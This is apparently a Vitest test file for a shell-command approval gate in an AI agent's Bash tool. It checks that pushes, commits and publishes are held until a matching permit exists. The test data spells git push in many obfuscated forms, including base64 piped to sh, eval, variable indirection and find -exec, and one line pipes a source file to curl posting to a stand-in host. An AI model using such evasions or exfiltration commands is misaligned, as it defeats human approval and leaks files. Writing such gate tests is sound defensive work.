import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { type TestWorkspace, testWorkspace } from '../testing/workspace'

const MIXED = 'one\ntwo\nthree\n'
let workspace: TestWorkspace

beforeAll(async () => {
  workspace = await testWorkspace({
    'run.sh': 'echo hello\n',
    'src/deep/b.ts': MIXED,
    'docs/a.md': '',
  })
})
afterAll(() => workspace.remove())

describe('gated commands', () => {
  test.each([
    'git push origin main',
    'g\\it push origin main',
    `sh -c 'git push origin main'`,
    'x=git; $x push origin main',
    'eval "git push origin main"',
    'echo push origin main | xargs git',
    'echo Z2l0IHB1c2ggb3JpZ2luIG1haW4= | base64 -d | sh',
    'echo "$(git push origin main)"',
    'env git push origin main',
    '/usr/bin/git push origin main',
    `printf 'git push origin main' > s.sh; bash s.sh`,
    'f() { git push origin main; }; f',
    'command git push origin main',
    `find . -name run.sh -exec git push origin main \\;`,
    'timeout 5 git push origin main',
    'cat <(git push origin main)',
  ])('are stopped however they are spelt: %s', async (command) => {
    const answer = await workspace.call('Bash', { command })
    if (answer.kind !== 'gated') throw new Error(JSON.stringify(answer))
    expect(answer.commands.map(({ argv }) => argv)).toEqual([['git', 'push', 'origin', 'main']])
  })

  test('stop the script: nothing before or after them is kept', async () => {
    const command = 'echo x > before; git push 2>/dev/null || true; echo x > after'
    const answer = await workspace.call('Bash', { command })
    expect(answer.kind).toBe('gated')
  })

  test('are listed in full, so that one approval covers the chain', async () => {
    const command = 'cd docs && git add -A && git commit -m "Two words" && git push'
    const answer = await workspace.call('Bash', { command })
    expect(answer).toEqual({
      kind: 'gated',
      commands: [
        { argv: ['git', 'add', '-A'], cwd: 'docs', stdin: null },
        { argv: ['git', 'commit', '-m', 'Two words'], cwd: 'docs', stdin: null },
        { argv: ['git', 'push'], cwd: 'docs', stdin: null },
      ],
    })
  })

  test('show what they are fed', async () => {
    const answer = await workspace.call('Bash', {
      command: 'cat src/deep/b.ts | curl -d @- https://a.example',
    })
    expect(answer).toMatchObject({ commands: [{ stdin: MIXED }] })
  })

  test('are let through once each, in order, and only recorded', async () => {
    const add = { argv: ['git', 'add', '-A'], cwd: '.', stdin: null }
    const push = { argv: ['git', 'push'], cwd: '.', stdin: null }
    const command = 'git add -A && git push && echo done > marker'
    const answer = await workspace.call('Bash', { command }, { permits: [add, push] })
    expect(answer).toMatchObject({ kind: 'done', isError: false, operations: [add, push] })
    const twice = await workspace.call(
      'Bash',
      { command: 'git push; git push' },
      { permits: [push] },
    )
    expect(twice).toMatchObject({ kind: 'gated', commands: [push, push] })
  })

  test.each([
    ['other arguments', { argv: ['git', 'push', '--force'], cwd: '.', stdin: null }],
    ['another folder', { argv: ['git', 'push'], cwd: 'src', stdin: null }],
    ['other input', { argv: ['git', 'push'], cwd: '.', stdin: 'x' }],
  ])('a permit for %s does not let them through', async (_name, permit) => {
    const answer = await workspace.call('Bash', { command: 'git push' }, { permits: [permit] })
    expect(answer.kind).toBe('gated')
  })

  test('a script that behaves differently each time is asked about again', async () => {
    const answer = await workspace.call('Bash', {
      command: 'git commit -m "$RANDOM$RANDOM$RANDOM"',
    })
    if (answer.kind !== 'gated') throw new Error('not held')
    const again = await workspace.call(
      'Bash',
      { command: 'git commit -m "$RANDOM$RANDOM$RANDOM"' },
      { permits: answer.commands },
    )
    expect(again.kind).toBe('gated')
  })

  test('npm run is not there, npm publish is held', async () => {
    const other = await workspace.call('Bash', { command: 'npm test; true' })
    expect(other).toMatchObject({ kind: 'done', output: expect.stringContaining('not available') })
    const answer = await workspace.call('Bash', { command: 'npm publish' })
    expect(answer.kind).toBe('gated')
  })
})
